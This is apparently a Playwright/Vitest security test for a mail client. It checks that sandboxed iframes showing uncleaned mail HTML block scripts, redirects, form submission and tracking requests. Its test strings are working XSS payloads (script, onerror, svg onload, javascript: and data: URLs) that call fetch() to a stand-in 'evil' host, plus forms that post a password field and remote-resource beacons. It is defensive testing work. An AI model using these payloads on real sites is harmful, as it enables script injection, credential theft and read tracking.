import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createGuard } from '../../src-main/chromium/loopback/guard.ts';
import { type LoopbackServer, startLoopbackServer } from '../../src-main/chromium/loopback/server.ts';
import { openPageFiles } from '../../src-main/desktop/page-files.ts';
import { silentLog } from '../../src-main/engine/log.ts';
import { openBrowser } from './harness.ts';

/**
 * The frame alone, without the backend's cleaning: what a page could do that slipped through it. The window is a stub, the
 * loopback server and the browser are the real ones.
 */
const SANDBOX = 'allow-popups allow-popups-to-escape-sandbox';

describe('The frame of a mail, were its page never cleaned', () => {
  let browser: Browser;
  let server: LoopbackServer;
  let folder: string;
  /** What anybody out there heard. */
  const heard: string[] = [];
  const outside = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.end('<h1>elsewhere</h1>');
  });
  let evil = '';
  let mail = '';

  beforeAll(async () => {
    await new Promise<void>((listening) => outside.listen(0, '127.0.0.1', () => listening()));
    const address = outside.address();
    evil = `http://localhost:${address !== null && typeof address === 'object' ? address.port : 0}`;
    folder = await mkdtemp(join(tmpdir(), 'turno-frame-'));
    await writeFile(
      join(folder, 'index.html'),
      `<!doctype html><title>Turno</title><iframe id="plain" sandbox="${SANDBOX}" src="/mails/m1"></iframe>
       <iframe id="pictures" sandbox="${SANDBOX}" src="/mails/m2/pictures"></iframe>
       <iframe id="bare" src="/mails/m3"></iframe>`,
    );
    server = await startLoopbackServer({
      files: openPageFiles(folder),
      preferredPort: 0,
      guardOf: (port) => createGuard({ port, session: null }),
      log: silentLog,
      onWindows: () => undefined,
      door: Promise.resolve({
        attach: () => undefined,
        upload: async () => null,
        async openMedia(id) {
          const bytes = Buffer.from(mail.replaceAll('WHO', id));
          return {
            ok: true,
            content: { mime: 'text/html', length: bytes.length, read: async (from, to) => bytes.subarray(from, to) },
          };
        },
      }),
    });
    browser = await openBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    outside.closeAllConnections();
    outside.close();
    await rm(folder, { recursive: true, force: true });
  });

  async function show(page: string): Promise<Page> {
    heard.length = 0;
    mail = `<!doctype html><html><head><meta charset="utf-8"></head><body><p>palavras</p>${page}</body></html>`;
    const window = await browser.newPage();
    await window.goto(server.launchUrl());
    for (const id of ['plain', 'pictures', 'bare'])
      await window.frameLocator(`#${id}`).getByText('palavras').waitFor({ timeout: 20_000 });
    // Whatever it tries at once or a moment later has happened by then.
    await window.waitForTimeout(1_200);
    return window;
  }

  const unharmed = async (window: Page) => {
    expect(await window.title()).toBe('Turno');
    expect(URL.parse(window.url())?.host).toBe(URL.parse(server.origin)?.host);
    for (const id of ['plain', 'pictures', 'bare'])
      await window.frameLocator(`#${id}`).getByText('palavras').waitFor({ timeout: 20_000 });
  };

  it('runs nothing, by whatever way it comes', async () => {
    const said = `top.document.title='x';fetch('${evil}/ran-WHO')`;
    const window = await show(`
      <script>${said}</script>
      <img src="x" onerror="${said}"><svg onload="${said}"><script>${said}</script></svg>
      <details open ontoggle="${said}"></details><input autofocus onfocus="${said}">
      <iframe srcdoc="<script>${said}</script>"></iframe><iframe src="javascript:${said}"></iframe>
      <object data="data:text/html,<script>${said}</script>"></object><embed src="data:text/html,<script>${said}</script>">
      <a href="javascript:${said}">prêmio</a><style>@keyframes a{} p{animation:a 1s}</style><p onanimationstart="${said}">a</p>`);
    for (const id of ['plain', 'pictures', 'bare'])
      await window
        .frameLocator(`#${id}`)
        .getByText('prêmio')
        .click({ timeout: 5_000 })
        .catch(() => undefined);
    await window.waitForTimeout(300);
    await unharmed(window);
    expect(heard).toEqual([]);
    await window.close();
  });

  it('leads nowhere: not by refreshing, not by a base, not by a form, not by a link into the window', async () => {
    const window = await show(`
      <meta http-equiv="refresh" content="0;url=${evil}/refreshed"><base href="${evil}/" target="_top">
      <form action="${evil}/sent" target="_top"><input name="senha" value="1"><button>Entrar</button></form>
      <form action="${evil}/sent-here"><button>Confirmar</button></form>
      <a href="${evil}/top" target="_top">ao topo</a> <a href="${evil}/self" target="_self">aqui mesmo</a>
      <a href="/" target="_self">à janela</a> <a href="data:text/html,<script>alert(1)</script>" target="_top">dados</a>`);
    for (const name of ['Entrar', 'Confirmar', 'ao topo', 'dados'])
      for (const id of ['plain', 'pictures'])
        await window.frameLocator(`#${id}`).getByText(name).click({ timeout: 20_000 });
    await window.waitForTimeout(500);
    await unharmed(window);
    for (const id of ['plain', 'pictures']) {
      await window.frameLocator(`#${id}`).getByText('aqui mesmo').click({ timeout: 20_000 });
      await window.waitForTimeout(300);
    }
    expect(heard).toEqual([]);
    expect(await window.title()).toBe('Turno');
    await window.close();
  });

  it('tells nobody that it was read; with pictures asked for, pictures alone come', async () => {
    const window = await show(`
      <link rel="stylesheet" href="${evil}/WHO-sheet"><link rel="preload" as="image" href="${evil}/WHO-preload">
      <link rel="dns-prefetch" href="${evil}"><link rel="prefetch" href="${evil}/WHO-prefetch">
      <style>@import url(${evil}/WHO-import); p{background:url(${evil}/WHO-background)}
        @font-face{font-family:x;src:url(${evil}/WHO-font)} p{font-family:x}</style>
      <p style="list-style-image:url(${evil}/WHO-list)">x</p>
      <img src="${evil}/WHO-picture"><img srcset="${evil}/WHO-set 1x"><video src="${evil}/WHO-film" poster="${evil}/WHO-poster"></video>
      <audio src="${evil}/WHO-sound" autoplay></audio><iframe src="${evil}/WHO-frame"></iframe>
      <object data="${evil}/WHO-object"></object><embed src="${evil}/WHO-embed"><input type="image" src="${evil}/WHO-button">`);
    await unharmed(window);
    const of = (id: string) => heard.filter((path) => path.startsWith(`/${id}-`));
    expect(of('m1')).toEqual([]);
    expect(of('m3')).toEqual([]);
    expect(of('m2')).toContain('/m2-picture');
    expect(of('m2').filter((path) => /sheet|import|font|film|sound|frame|object|embed/.test(path))).toEqual([]);
    await window.close();
  });

  it('is of no origin: it reads neither the window nor what the window may read', async () => {
    const window = await show('');
    for (const id of ['plain', 'bare']) {
      const seen = await window.evaluate((name) => {
        const frame = document.getElementById(name);
        return frame instanceof HTMLIFrameElement ? frame.contentDocument : 'no frame';
      }, id);
      expect(seen, id).toBeNull();
    }
    await window.close();
  });
});
